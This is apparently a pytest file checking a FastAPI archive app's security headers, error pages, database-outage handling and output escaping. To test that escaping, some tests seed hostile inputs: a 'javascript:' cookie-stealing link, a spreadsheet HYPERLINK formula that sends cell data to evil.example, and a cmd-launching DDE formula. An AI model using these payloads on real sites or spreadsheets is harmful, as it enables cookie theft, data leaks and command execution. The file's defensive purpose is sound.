"""The web side's safe output: security headers everywhere (errors included), 503 when the database is
down, and scraped URLs that are not http(s) never rendered as links (page, Atom, JSON)."""

from __future__ import annotations

from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from api.app import create_app
from api.security import CSP
from milai.config import Settings
from storage.database import session_scope
from storage.models import Item
from tests.support.db import configured_engine

HTML = {"accept": "text/html"}


def _assert_headers(response, csp: str = CSP) -> None:  # type: ignore[no-untyped-def]
    h = response.headers
    assert h["content-security-policy"] == csp
    assert "'unsafe-inline'" not in csp or csp != CSP
    assert h["x-content-type-options"] == "nosniff"
    assert h["x-frame-options"] == "DENY"
    assert h["referrer-policy"] == "no-referrer"
    assert "camera=()" in h["permissions-policy"]


def test_strict_csp_has_no_inline_or_foreign_sources() -> None:
    assert "'unsafe-inline'" not in CSP and "'unsafe-eval'" not in CSP and "http" not in CSP
    assert "default-src 'self'" in CSP and "frame-ancestors 'none'" in CSP and "object-src 'none'" in CSP


def test_every_kind_of_response_carries_the_headers(client: TestClient, ids: dict[str, int]) -> None:
    item_id = next(iter(ids.values()))
    for path in ["/", f"/items/{item_id}", "/sources", "/api/items", f"/api/items/{item_id}",
                 "/feeds/items.atom", "/static/style.css", "/api/items.csv", "/healthz"]:
        r = client.get(path, headers=HTML)
        assert r.status_code == 200, path
        _assert_headers(r)
    for path, code in [("/no-such-page", 404), ("/api/items/999999999", 404), ("/api/items?limit=-5", 422)]:
        r = client.get(path)
        assert r.status_code == code, path
        _assert_headers(r)
    page = client.get("/no-such-page", headers=HTML)
    assert page.status_code == 404 and "There is no page at this address." in page.text
    _assert_headers(page)
    docs = client.get("/docs")
    assert docs.status_code == 200
    assert "frame-ancestors 'none'" in docs.headers["content-security-policy"]
    assert docs.headers["x-frame-options"] == "DENY"


def test_docs_are_served_from_installed_assets_with_one_narrow_csp_exception(client: TestClient) -> None:
    docs = client.get("/docs")
    csp = docs.headers["content-security-policy"]
    assert "script-src 'self';" in csp and "http" not in csp  # no CDN, no inline script
    assert "style-src 'self' 'unsafe-inline'" in csp  # Swagger UI's inline styles, on /docs only
    assert "unsafe-inline" not in client.get("/").headers["content-security-policy"]
    assert "<script>" not in docs.text and 'src="/docs/assets/swagger-ui-bundle.js"' in docs.text
    bundle = client.get("/docs/assets/swagger-ui-bundle.js")
    assert bundle.status_code == 200 and len(bundle.content) > 100_000
    assert client.get("/redoc", follow_redirects=False).headers["location"] == "/docs"


def test_a_server_error_is_a_clean_500_with_the_headers(client: TestClient) -> None:
    def boom() -> None:
        raise RuntimeError("secret internal detail")

    client.app.add_api_route("/api/boom", boom)  # type: ignore[attr-defined]
    client.app.add_api_route("/boom", boom)  # type: ignore[attr-defined]
    with TestClient(client.app, raise_server_exceptions=False) as c:
        r = c.get("/api/boom")
        assert r.status_code == 500
        assert r.json() == {"detail": "Something went wrong on our side; it has been logged."}
        _assert_headers(r)
        page = c.get("/boom", headers=HTML)
        assert page.status_code == 500 and "text/html" in page.headers["content-type"]
        assert "secret internal detail" not in page.text and "Server error" in page.text
        _assert_headers(page)


@pytest.mark.parametrize("url", [
    "sqlite:///{tmp}/a-directory",  # a path SQLite cannot open as a file
    pytest.param("postgresql+psycopg://milai:s3cret-pw@127.0.0.1:1/milai", marks=pytest.mark.postgres),
])
def test_database_down_is_503_from_every_route(url: str, tmp_path: Path, milai_env: dict[str, str],
                                               caplog: pytest.LogCaptureFixture) -> None:
    (tmp_path / "a-directory").mkdir()
    app = create_app(Settings(database_url=url.format(tmp=tmp_path)))
    with TestClient(app, raise_server_exceptions=False) as c:
        for path in ["/api/items", "/api/items?q=drone", "/api/items/1", "/feeds/items.atom", "/api/sources",
                     "/api/stats", "/api/status"]:
            r = c.get(path)
            assert r.status_code == 503, (path, r.status_code, r.text[:200])
            assert r.headers["retry-after"] == "30"
            assert r.json()["detail"].startswith("The archive's database cannot be used")
            _assert_headers(r)
        for path in ["/", "/items/1", "/sources"]:
            page = c.get(path, headers=HTML)
            assert page.status_code == 503, path
            assert "text/html" in page.headers["content-type"] and "Service unavailable" in page.text
            _assert_headers(page)
        assert c.get("/healthz").status_code == 503
    logged = caplog.text
    assert "database unavailable" in logged and "s3cret-pw" not in logged


def _scrape_into(item_id: int, **fields: object) -> None:
    """Give a seeded item what a hostile source could have published (and mark it on-topic, so every view lists it)."""
    with session_scope(configured_engine()) as s:
        item = s.get(Item, item_id)
        assert item is not None
        for name, value in dict(fields, relevant=True).items():
            setattr(item, name, value)


def test_non_http_urls_are_never_links(client: TestClient, ids: dict[str, int]) -> None:
    item_id = next(iter(ids.values()))
    _scrape_into(item_id, url="javascript:alert(document.cookie)")
    page = client.get(f"/items/{item_id}", headers=HTML)
    assert page.status_code == 200
    assert 'href="javascript:' not in page.text.lower()
    assert "javascript:alert(document.cookie)" in page.text  # shown as text, not linked
    atom = client.get("/feeds/items.atom?all=1&limit=100").text
    assert 'href="javascript:' not in atom.lower()
    assert f"/items/{item_id}" in atom
    row = client.get(f"/api/items/{item_id}").json()
    assert row["url"] == "javascript:alert(document.cookie)" and row["link"] is None
    listed = [r for r in client.get("/api/items?all=1&limit=100").json()["items"] if r["id"] != item_id]
    assert listed and all(r["link"] == r["url"] for r in listed)


def test_csv_exports_never_hand_a_spreadsheet_a_formula(client: TestClient, ids: dict[str, int]) -> None:
    """A scraped title or summary that a spreadsheet would run (CSV injection) is exported as text."""
    import csv
    import io

    from api.presentation import csv_cell

    item_id = next(iter(ids.values()))
    _scrape_into(item_id, title='=HYPERLINK("http://evil.example/?"&A1,"Autonomous weapons")',
                 summary="+cmd|' /C calc'!A0")
    for params in ({"all": "1"}, {"all": "1", "bom": "1"}):
        rows = list(csv.DictReader(io.StringIO(client.get("/api/items.csv", params=params).text.lstrip("\ufeff"))))
        [row] = [r for r in rows if r["id"] == str(item_id)]
        assert row["title"] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"Autonomous weapons")'
        assert row["summary"] == "'+cmd|' /C calc'!A0"
        assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values() if v)
    assert [csv_cell(v) for v in ("@SUM(1)", "-2+3", "\t=1", "Drones", 0.5, None)] == \
        ["'@SUM(1)", "'-2+3", "'\t=1", "Drones", 0.5, None]


def test_a_commit_that_fails_is_the_answer_not_a_traceback_after_it(
        client: TestClient, caplog: pytest.LogCaptureFixture) -> None:
    """The request's unit of work commits before the response is sent: a database that drops the connection at
    COMMIT (the server shut down under us) gives 503 + Retry-After, and a write is never answered 201 unstored."""
    from sqlalchemy import event, func, select
    from sqlalchemy.exc import OperationalError
    from typer.testing import CliRunner

    from milai.cli.main import app as cli
    from storage.models import Subscription

    token = CliRunner().invoke(cli, ["tokens", "create", "tester"]).stdout.strip().splitlines()[0]
    engine = client.app.state.engine  # type: ignore[attr-defined]

    def drop(_connection: object) -> None:
        raise OperationalError("COMMIT", {}, Exception("terminating connection due to administrator command"))

    event.listen(engine, "commit", drop)
    try:
        r = client.get("/api/items")
        assert r.status_code == 503 and r.headers["retry-after"] == "30", (r.status_code, r.text[:200])
        r = client.post("/api/subscriptions", headers={"Authorization": f"Bearer {token}"},
                        json={"channel": "email", "target": "late@example.org", "query": "REAIM"})
        assert r.status_code == 503, (r.status_code, r.text[:200])
    finally:
        event.remove(engine, "commit", drop)
    assert "response already started" not in caplog.text and "Traceback" not in caplog.text
    with session_scope(configured_engine()) as s:
        assert s.scalar(select(func.count()).select_from(Subscription)
                        .where(Subscription.target == "late@example.org")) == 0
    assert client.get("/api/items").status_code == 200
